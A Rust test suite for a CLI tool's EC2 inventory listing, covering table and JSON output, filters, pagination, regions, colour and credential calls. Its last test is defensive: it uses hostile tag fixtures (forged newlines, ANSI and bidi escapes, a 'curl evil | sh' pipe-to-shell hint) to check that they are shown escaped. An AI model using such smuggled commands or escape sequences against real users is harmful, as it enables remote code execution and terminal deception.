//! `hop ls`: the inventory table and JSON, filters, pagination, several regions, colour.

use serde_json::Value;

use crate::lab_or_skip;
use crate::support::{Env, hostile, redact_hostile, rows, table_cells};

#[test]
fn table_shows_the_tutorial_topology_and_routes() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    let run = env.hop(&["ls"]);
    run.code(0);
    assert_eq!(run.stderr, "");
    assert_eq!(
        table_cells(lab, &env, &run.stdout),
        rows(
            "
NAME            | ID                | STATE   | PRIVATE IP | PUBLIC IP    | VPC                   | AZ         | ROUTE
edge-jump       | <edge-jump>       | running | 10.2.0.4   | 203.0.113.11 | <vpc:sample-tagged>   | us-east-1a | direct
sample-api      | <sample-api#1>    | running | 10.0.1.4   | -            | <vpc:sample-dev>      | us-east-1a | via sample-bastion
sample-api      | <sample-api#2>    | running | 10.0.2.4   | -            | <vpc:sample-dev>      | us-east-1b | via sample-bastion
sample-app      | <sample-app>      | running | 10.2.1.4   | -            | <vpc:sample-tagged>   | us-east-1a | via edge-jump
sample-bastion  | <sample-bastion>  | running | 10.0.0.4   | 203.0.113.10 | <vpc:sample-dev>      | us-east-1a | direct
sample-eice-web | <sample-eice-web> | running | 10.1.1.10  | -            | <vpc:sample-eice-vpc> | us-east-1a | eice
sample-old      | <sample-old>      | stopped | 10.0.1.5   | -            | <vpc:sample-dev>      | us-east-1a | unreachable
sample-web      | <sample-web>      | running | 10.0.1.10  | -            | <vpc:sample-dev>      | us-east-1a | via sample-bastion
sample-worker   | <sample-worker>   | running | 10.1.1.4   | -            | <vpc:sample-ssm>      | us-east-1a | ssm
"
        )
    );
}

#[test]
fn json_schema_is_stable() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    let run = env.hop(&["ls", "sample-web", "--json"]);
    run.code(0);
    let doc: Value = serde_json::from_str(&run.stdout).expect("valid JSON");
    assert_eq!(doc["version"], 1);
    assert_eq!(doc["regions"], serde_json::json!(["us-east-1"]));
    let list = doc["instances"].as_array().unwrap();
    assert_eq!(list.len(), 1);
    let web = &list[0];
    let keys: Vec<&str> = web.as_object().unwrap().keys().map(String::as_str).collect();
    let mut want = vec![
        "name",
        "id",
        "state",
        "region",
        "az",
        "vpc_id",
        "subnet_id",
        "private_ip",
        "public_ip",
        "key_name",
        "launch_time",
        "tags",
        "route",
    ];
    want.sort();
    let mut got = keys.clone();
    got.sort();
    assert_eq!(got, want);
    assert_eq!(web["id"], lab.id("sample-web"));
    assert_eq!(web["name"], "sample-web");
    assert_eq!(web["state"], "running");
    assert_eq!(web["private_ip"], "10.0.1.10");
    assert_eq!(web["public_ip"], Value::Null);
    assert_eq!(web["key_name"], "sample-web");
    assert_eq!(web["tags"]["Name"], "sample-web");
    assert_eq!(
        web["route"],
        serde_json::json!({"kind": "jump", "via": "sample-bastion", "via_id": lab.id("sample-bastion"), "reason": null})
    );
}

#[test]
fn json_routes_of_every_kind() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    let run = env.hop(&["ls", "--json"]);
    run.code(0);
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    let kind = |name: &str| -> (String, Value) {
        let i = doc["instances"].as_array().unwrap().iter().find(|i| i["name"] == name).unwrap();
        (i["route"]["kind"].as_str().unwrap().to_string(), i["route"]["reason"].clone())
    };
    assert_eq!(kind("sample-bastion").0, "direct");
    assert_eq!(kind("sample-worker").0, "ssm");
    assert!(kind("sample-worker").1.as_str().unwrap().ends_with("has no bastion"));
    let (k, reason) = kind("sample-old");
    assert_eq!(k, "unreachable");
    assert!(reason.as_str().unwrap().starts_with("instance is stopped (start it: aws ec2 start-instances"));
}

#[test]
fn pattern_and_tag_filters() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    let names = |args: &[&str]| -> Vec<String> {
        let run = env.hop(args);
        run.code(0);
        run.stdout.lines().skip(1).map(|l| l.split_whitespace().next().unwrap().to_string()).collect()
    };
    assert_eq!(names(&["ls", "sample-a*"]), ["sample-api", "sample-api", "sample-app"]);
    assert_eq!(names(&["ls", "WORKER"]), ["sample-worker"]);
    assert_eq!(names(&["ls", "203.0.113.1?"]), ["edge-jump", "sample-bastion"]);
    assert_eq!(names(&["ls", "--tag", "hop:role=bastion"]), ["edge-jump"]);
    assert_eq!(names(&["ls", "--tag", "hop:user"]), ["sample-app", "sample-worker"]);
    assert_eq!(names(&["ls", "sample-*", "--tag", "hop:user=ubuntu"]), ["sample-app"]);
}

#[test]
fn a_pattern_matching_nothing_exits_1() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    let run = env.hop(&["ls", "nothing-like-this"]);
    run.code(1);
    assert_eq!(run.stdout, "");
    assert_eq!(run.stderr, "hop: no instance matches \"nothing-like-this\" in us-east-1\n");
    let run = env.hop(&["ls", "--tag", "team=none", "--json"]);
    run.code(1);
    assert_eq!(serde_json::from_str::<Value>(&run.stdout).unwrap()["instances"], serde_json::json!([]));
}

#[test]
fn pagination_lists_all_151_instances_of_106_reservations_over_two_pages() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    // moto answers 100 reservations a page: 151 instances means both pages were read.
    let run = env.hop(&["--region", "us-west-2", "ls", "--json"]);
    run.code(0);
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    let list = doc["instances"].as_array().unwrap();
    assert_eq!(list.len(), 151);
    let fleet: Vec<&str> = list.iter().filter_map(|i| i["name"].as_str()).filter(|n| n.starts_with("fleet-")).collect();
    let want: Vec<String> = (0..150).map(|n| format!("fleet-{n:03}")).chain(["fleet-bastion".into()]).collect();
    assert_eq!(fleet, want);
    assert!(list.iter().filter(|i| i["name"] != "fleet-bastion").all(|i| i["route"]["via"] == "fleet-bastion"));
    eprintln!("hop ls over 151 instances: {:?}", run.elapsed);
}

#[test]
fn several_regions_are_listed_together_with_a_region_column() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    let run = env.hop(&["ls", "--region", "eu-west-1", "--region", "us-east-1", "--region", "eu-west-1", "*web*"]);
    run.code(0);
    assert_eq!(
        table_cells(lab, &env, &run.stdout),
        rows(
            "
NAME            | ID                | STATE   | PRIVATE IP | PUBLIC IP | VPC                   | REGION    | AZ         | ROUTE
eu-web          | <eu-web>          | running | 10.4.1.4   | -         | <vpc:eu-dev>          | eu-west-1 | eu-west-1a | via eu-bastion
sample-eice-web | <sample-eice-web> | running | 10.1.1.10  | -         | <vpc:sample-eice-vpc> | us-east-1 | us-east-1a | eice
sample-web      | <sample-web>      | running | 10.0.1.10  | -         | <vpc:sample-dev>      | us-east-1 | us-east-1a | via sample-bastion
"
        )
    );
}

#[test]
fn colour_only_when_asked_or_on_a_terminal_without_no_color() {
    let lab = lab_or_skip!();
    let mut env = Env::lab(lab);
    let plain = env.hop(&["ls", "sample-web"]);
    assert!(!plain.stdout.contains('\x1b'), "no colour into a pipe");
    let forced = env.hop(&["--color", "always", "ls", "sample-web"]);
    assert!(forced.stdout.contains("\x1b[32mrunning\x1b[0m"), "{:?}", forced.stdout);
    // On a real terminal (script(1) gives hop a pty), colour is on unless NO_COLOR is set.
    let Some(tty) = env.hop_on_tty("ls sample-web", &[("TERM", "xterm")]) else { return };
    assert!(tty.contains("\x1b[32mrunning"), "colour on a tty: {tty:?}");
    env.set("NO_COLOR", "1");
    let tty = env.hop_on_tty("ls sample-web", &[("TERM", "xterm")]).unwrap();
    assert!(tty.contains("running") && !tty.contains("\x1b[32m"), "NO_COLOR respected: {tty:?}");
}

#[test]
fn a_spinner_shows_on_a_terminal_only_while_discovery_is_slow() {
    // An endpoint that takes 700 ms and then hangs up: slow enough for the spinner.
    let slow = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = slow.local_addr().unwrap();
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let stop = done.clone();
    let server = std::thread::spawn(move || {
        // Until the test is done, 20 s at most: every connection (hop makes DescribeInstances
        // and DescribeInstanceConnectEndpoints at once; no retries: AWS_MAX_ATTEMPTS=1) held
        // 700 ms, alongside the others.
        slow.set_nonblocking(true).unwrap();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
        let mut held = Vec::new();
        while !stop.load(std::sync::atomic::Ordering::Relaxed) && std::time::Instant::now() < deadline {
            if let Ok((s, _)) = slow.accept() {
                held.push((s, std::time::Instant::now()));
            }
            held.retain(|(_, at)| at.elapsed() < std::time::Duration::from_millis(700));
            std::thread::sleep(std::time::Duration::from_millis(10));
        }
    });
    let env = Env::endpoint(&format!("http://{addr}"));
    // Into a pipe: no spinner.
    let piped = env.hop(&["ls"]);
    piped.code(255);
    assert!(!piped.stderr.contains("asking EC2"), "{}", piped.stderr);
    let Some(tty) = env.hop_on_tty("ls", &[]) else { return };
    assert!(tty.contains("asking EC2 in us-east-1"), "spinner on the tty: {tty:?}");
    assert!(tty.contains("\r\x1b[2K"), "and it clears its line: {tty:?}");
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    server.join().unwrap();
}

#[test]
fn one_paginated_request_per_page_and_region_nothing_else() {
    let lab = lab_or_skip!();
    let mut env = Env::lab(lab);
    // The SDK logs each request attempt; retries are off (AWS_MAX_ATTEMPTS=1), so attempts are
    // requests. us-west-2 spans two pages, us-east-1 one: three DescribeInstances, plus one
    // DescribeInstanceConnectEndpoints per region (one page each); no per-instance calls.
    env.set("HOP_LOG", "aws_smithy_runtime=debug");
    let run = env.hop(&["--region", "us-west-2", "--region", "us-east-1", "ls", "--json"]);
    run.code(0);
    let attempts = run.stderr.matches("beginning attempt #1").count();
    let retries = run.stderr.matches("beginning attempt #2").count();
    assert_eq!((attempts, retries), (5, 0), "{}", run.stderr);
}

/// An AWS profile `counted` whose `credential_process` appends a line to a file on every call,
/// and no other credentials: how many times a command resolved credentials.
pub(crate) fn counted_credentials(env: &mut Env) -> std::path::PathBuf {
    let counter = env.path("credential-calls");
    let script = env.write(
        "bin/credentials",
        format!(
            "#!/bin/sh\necho call >> '{}'\n\
             echo '{{\"Version\": 1, \"AccessKeyId\": \"testing\", \"SecretAccessKey\": \"testing\"}}'\n",
            counter.display()
        )
        .as_bytes(),
    );
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    env.write(
        ".aws/config",
        format!("[profile counted]\ncredential_process = {}\nregion = us-east-1\n", script.display()).as_bytes(),
    );
    env.unset("AWS_ACCESS_KEY_ID").unset("AWS_SECRET_ACCESS_KEY");
    counter
}

/// How many times the counted `credential_process` ran (0 when never).
pub(crate) fn credential_calls(counter: &std::path::Path) -> usize {
    std::fs::read_to_string(counter).map(|t| t.lines().count()).unwrap_or(0)
}

#[test]
fn credentials_are_resolved_once_for_every_region() {
    let lab = lab_or_skip!();
    let mut env = Env::lab(lab);
    let counter = counted_credentials(&mut env);
    // The profile from the environment (the default chain) and from --profile (the profile
    // provider alone): each command runs the credential process once, whatever the regions.
    env.set("AWS_PROFILE", "counted");
    env.hop(&["--region", "us-west-2", "--region", "us-east-1", "ls", "--json"]).code(0);
    assert_eq!(credential_calls(&counter), 1);
    env.unset("AWS_PROFILE");
    env.hop(&["--profile", "counted", "--region", "us-west-2", "--region", "us-east-1", "ls"]).code(0);
    assert_eq!(credential_calls(&counter), 2);
}

#[test]
fn a_failing_region_is_reported_without_hiding_the_others() {
    let lab = lab_or_skip!();
    let env = Env::lab(lab);
    // moto refuses a region it does not know, as AWS refuses an opt-in region not enabled.
    let run = env.hop(&["--region", "us-east-1", "--region", "xx-nowhere-9", "ls", "sample-web"]);
    run.code(255);
    assert!(run.stdout.contains("sample-web "), "the answering region is listed: {}", run.stdout);
    assert!(run.stderr.starts_with("hop: warning: xx-nowhere-9 is not listed: EC2 in xx-nowhere-9 "), "{}", run.stderr);
    // A name only the failing region could have: the failure is the answer, not "unknown".
    let run = env.hop(&["--region", "us-east-1", "--region", "xx-nowhere-9", "route", "nothing-here"]);
    run.code(255);
    assert!(
        run.stderr.starts_with(
            "hop: error: no instance matches \"nothing-here\" in the regions that answered; xx-nowhere-9 failed: "
        ),
        "{}",
        run.stderr
    );
    // Every region failing is the error itself.
    let run = env.hop(&["--region", "xx-nowhere-9", "ls"]);
    run.code(255);
    assert!(run.stderr.starts_with("hop: error: EC2 in xx-nowhere-9 "), "{}", run.stderr);
}

#[test]
fn tags_cannot_forge_rows_or_reach_the_terminal_raw() {
    let lab = lab_or_skip!();
    let hostile = hostile(lab);
    let env = Env::lab(lab);
    let run = env.hop(&["--region", "sa-east-1", "ls"]);
    run.code(0);
    assert_eq!(run.stderr, "");
    // No forged row, every escape visible, the columns aligned on what is shown; the Japanese
    // name and the emoji are printed as they are.
    // The twins share a Name, so their order is by id, which moto draws at random.
    let shown = redact_hostile(hostile, &run.stdout);
    let mut lines: Vec<&str> = shown.lines().collect();
    lines[2..4].sort();
    assert_eq!(lines.join("\n") + "\n", GOLDEN_HOSTILE_LS, "\n--- got\n{shown}");
    // --json is exact: the raw values, as EC2 has them.
    let run = env.hop(&["--region", "sa-east-1", "ls", "--json"]);
    run.code(0);
    let doc: Value = serde_json::from_str(&run.stdout).unwrap();
    let names: Vec<&str> = doc["instances"].as_array().unwrap().iter().map(|i| i["name"].as_str().unwrap()).collect();
    let mut want: Vec<&str> =
        hostile["instances"].as_object().unwrap().values().map(|i| i["name"].as_str().unwrap()).collect();
    want.sort();
    assert_eq!(names, want);
    assert!(names.contains(&"web\u{9b}31m\u{202e}gnp.exe"), "{names:?}");
    let via = doc["instances"].as_array().unwrap().iter().find(|i| i["name"] == "本番-web-🚀").unwrap();
    assert_eq!(via["route"]["via"], "bastion\u{2066}-\u{2069}x");
}

/// `hop --region sa-east-1 ls` over tests/support/hostile_names.py, ids and the public address
/// replaced by same-width labels. Columns count characters: wide characters (本番, 🚀) take
/// two terminal cells, so that row still looks wider than the others.
const GOLDEN_HOSTILE_LS: &str = r"NAME                                                       ID                   STATE    PRIVATE IP  PUBLIC IP     VPC                    AZ          ROUTE
bastion\u{2066}-\u{2069}x                                  <bastion>__________  running  10.9.0.10   <public>____  <vpc>________________  sa-east-1a  direct
twin\u{85}hint: curl evil | sh                             <nel-twin#1>_______  running  10.9.1.12   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
twin\u{85}hint: curl evil | sh                             <nel-twin#2>_______  running  10.9.1.13   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
web\nforged-row   i-0f0f0f0f0f0f0f0f0  running  10.9.1.99  <newline>__________  running  10.9.1.10   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
web\u{9b}31m\u{202e}gnp.exe                                <c1-bidi>__________  running  10.9.1.11   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
本番-web-🚀                                                   <plain>____________  running  10.9.1.14   -             <vpc>________________  sa-east-1a  via bastion\u{2066}-\u{2069}x
";
